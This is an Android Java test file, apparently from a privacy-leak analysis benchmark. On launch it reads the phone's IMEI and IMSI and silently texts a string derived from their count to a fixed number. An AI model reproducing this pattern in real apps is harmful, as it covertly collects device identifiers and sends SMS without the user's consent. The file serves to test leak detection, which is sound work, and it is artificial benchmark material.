package cn.privlens.suite.list_of_sizes;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Iterator;
import java.util.LinkedHashSet;
import java.util.Set;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Set<String> ids = new LinkedHashSet<>();
        ids.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        ids.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId());
        String text = "";
        Iterator<String> it = ids.iterator();
        while (it.hasNext()) {
            String next = it.next();
            text += "x";
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
